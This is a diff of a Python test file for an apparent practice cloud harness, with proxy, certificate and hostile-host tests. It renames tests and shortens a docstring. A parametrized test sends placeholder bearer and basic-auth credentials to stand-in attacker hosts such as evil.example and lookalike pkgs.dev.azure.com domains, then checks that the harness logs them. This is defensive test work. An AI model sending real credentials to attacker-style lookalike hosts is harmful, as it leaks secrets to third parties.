@@ -1,4 +1,4 @@
-"""The practice cloud: its proxy, its certificates, and the hosts that want what is not theirs."""
+"""The practice cloud: proxy, certificates and hostile hosts."""
 
 from __future__ import annotations
 
@@ -13,7 +13,7 @@ from lab.cloud import PracticeCloud
 from support.browser import Browser, basic
 
 
-def test_many_clouds_live_side_by_side_and_each_sees_its_own_requests_only(authority) -> None:
+def test_clouds_run_in_parallel_and_see_only_their_requests(authority) -> None:
     with ExitStack() as stack:
         clouds = [stack.enter_context(PracticeCloud(authority)) for _ in range(20)]
         assert len({cloud.proxy.port for cloud in clouds}) == len(clouds)
@@ -34,7 +34,7 @@ def test_another_port_than_443_is_refused(cloud: PracticeCloud, browser: Browser
     assert cloud.log.refused() == ["pkgs.dev.azure.com"]
 
 
-def test_plain_http_is_refused_but_what_was_sent_is_seen(cloud: PracticeCloud) -> None:
+def test_plain_http_is_refused_and_logged(cloud: PracticeCloud) -> None:
     opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": cloud.proxy_url}))
     request = urllib.request.Request("http://pkgs.dev.azure.com/contoso/", headers={"Authorization": "Bearer leaked"})
     with pytest.raises(urllib.error.HTTPError, match="403"):
@@ -95,7 +95,7 @@ def test_closing_ends_silent_connections_at_once(authority) -> None:
 
 
 @pytest.mark.parametrize("host", ["evil.example", "evil-pkgs.dev.azure.com", "pkgs.dev.azure.com.evil.example"])
-def test_a_hostile_host_takes_what_it_is_given(cloud: PracticeCloud, browser: Browser, host: str) -> None:
+def test_hostile_host_accepts_and_logs_everything(cloud: PracticeCloud, browser: Browser, host: str) -> None:
     browser.open(f"https://{host}/x", headers={"Authorization": "Bearer secret-1"})
     assert cloud.log.bearers() == [(host, "secret-1")]
     browser.open(f"https://{host}/x", headers=basic("secret-2"))
